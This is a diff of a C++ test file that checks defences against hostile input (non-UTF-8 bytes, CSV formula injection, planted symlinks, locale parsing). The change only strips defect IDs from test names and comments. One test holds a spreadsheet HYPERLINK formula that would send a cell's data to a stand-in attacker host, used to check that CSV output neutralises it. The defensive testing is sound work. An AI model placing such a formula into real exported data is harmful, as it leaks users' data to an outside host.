@@ -1,8 +1,8 @@
 // The core side of the third hostile-input review's defects (hostile-input-3.md), each by its class:
-// text that is not UTF-8 never reaches a writer (H3-02), a CSV text cell is never a formula (H3-05),
-// a new folder is claimed with mkdir (H3-06), an output never replaces an input (H3-01), an export's
-// link is replaced rather than followed (H3-11), a file's reason is carried as a code (H3-08), data
-// read in the "C" notation whatever the locale (H3-13), a GPU name's limit said in bytes (H3-14).
+// text that is not UTF-8 never reaches a writer, a CSV text cell is never a formula,
+// a new folder is claimed with mkdir, an output never replaces an input, an export's
+// link is replaced rather than followed, a file's reason is carried as a code, data
+// read in the "C" notation whatever the locale, a GPU name's limit said in bytes.
 #include "core/estimate.h"
 #include "core/estimate_io.h"
 #include "core/fidelity.h"
@@ -61,8 +61,8 @@ std::string scenarioWithProfile(const std::string& folder)
 
 } // namespace
 
-TEST_CASE("a profile in a folder whose name is not UTF-8 is written as a file URI and read back (H3-02)",
-    "[core][hostile3][utf8]")
+TEST_CASE(
+    "a profile in a folder whose name is not UTF-8 is written as a file URI and read back", "[core][hostile3][utf8]")
 {
     Scratch s;
     const std::string folder = s / "caf\xe9"; // Latin-1: a valid Linux name, not UTF-8
@@ -96,7 +96,7 @@ TEST_CASE("a profile in a folder whose name is not UTF-8 is written as a file UR
     CHECK(isUtf8(estimateToJson(estimate(edited))));
 }
 
-TEST_CASE("text given with --set that is not UTF-8 is refused by its key, a profile's path is carried (H3-02)",
+TEST_CASE("text given with --set that is not UTF-8 is refused by its key, a profile's path is carried",
     "[core][hostile3][utf8]")
 {
     Scenario s = defaultScenario();
@@ -133,8 +133,7 @@ TEST_CASE("file URIs: bytes as %XX, malformed ones refused by the key", "[core][
     CHECK(refused.error.path == "hardware.profile");
 }
 
-TEST_CASE(
-    "JSON writers never throw on bytes that are not UTF-8 (H3-02, the last line of defence)", "[core][hostile3][utf8]")
+TEST_CASE("JSON writers never throw on bytes that are not UTF-8 (the last line of defence)", "[core][hostile3][utf8]")
 {
     Scenario s = defaultScenario();
     s.name = "bad\xff\xfename"; // as no reader lets in: a writer must still not abort
@@ -146,7 +145,7 @@ TEST_CASE(
     CHECK(toUtf8("图") == "图");
 }
 
-TEST_CASE("a CSV text cell is never a formula (H3-05)", "[core][hostile3][csv]")
+TEST_CASE("a CSV text cell is never a formula", "[core][hostile3][csv]")
 {
     CHECK(csvText("Llama 2 7B") == "Llama 2 7B");
     CHECK(csvText("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Run A\")")
@@ -160,7 +159,7 @@ TEST_CASE("a CSV text cell is never a formula (H3-05)", "[core][hostile3][csv]")
     CHECK(csvText("x\xff") == "x\xEF\xBF\xBD");
 }
 
-TEST_CASE("a new folder is claimed with mkdir: never shared, never a planted link (H3-06)", "[core][hostile3][files]")
+TEST_CASE("a new folder is claimed with mkdir: never shared, never a planted link", "[core][hostile3][files]")
 {
     Scratch s;
     const NewFolder first = makeNewFolder(s.dir.string(), "Llama 2 7B");
@@ -185,7 +184,7 @@ TEST_CASE("a new folder is claimed with mkdir: never shared, never a planted lin
     CHECK_THAT(makeFolders(s / "plain"), Catch::Contains("is not a folder"));
 }
 
-TEST_CASE("an output never replaces an input, not even with force (H3-01)", "[core][hostile3][files]")
+TEST_CASE("an output never replaces an input, not even with force", "[core][hostile3][files]")
 {
     Scratch s;
     put(s / "s.tpscenario.json", "scenario");
@@ -204,7 +203,7 @@ TEST_CASE("an output never replaces an input, not even with force (H3-01)", "[co
     CHECK(slurp(s / "shot.png") == "new");
 }
 
-TEST_CASE("an export set replaces a link in its folder, not the file it names (H3-11)", "[core][hostile3][files]")
+TEST_CASE("an export set replaces a link in its folder, not the file it names", "[core][hostile3][files]")
 {
     Scratch s;
     fs::create_directories(s / "out");
@@ -223,7 +222,7 @@ TEST_CASE("an export set replaces a link in its folder, not the file it names (H
     CHECK(slurp(s / "outside/thesis.txt") == "NEW");
 }
 
-TEST_CASE("a file that cannot be read says why as a code (H3-08)", "[core][hostile3][files]")
+TEST_CASE("a file that cannot be read says why as a code", "[core][hostile3][files]")
 {
     Scratch s;
     CHECK(readFileBounded(s / "missing.json", 100).failure == FileFailure::no_such_file);
@@ -245,7 +244,7 @@ TEST_CASE("a file that cannot be read says why as a code (H3-08)", "[core][hosti
     }
 }
 
-TEST_CASE("vTrain's measured times read the same in a decimal-comma locale (H3-13)", "[core][hostile3][locale]")
+TEST_CASE("vTrain's measured times read the same in a decimal-comma locale", "[core][hostile3][locale]")
 {
     // The app runs in the user's locale (QApplication calls setlocale): std::stod stopped at the "." of
     // 372.160408 under de_DE. A de_DE locale is built with localedef (Debian's locales, scripts/test.sh).
@@ -271,7 +270,7 @@ TEST_CASE("vTrain's measured times read the same in a decimal-comma locale (H3-1
     CHECK(found);
 }
 
-TEST_CASE("a GPU name's limit is said in bytes (H3-14)", "[core][hostile3]")
+TEST_CASE("a GPU name's limit is said in bytes", "[core][hostile3]")
 {
     std::string name;
     for (int i = 0; i < 34; ++i)
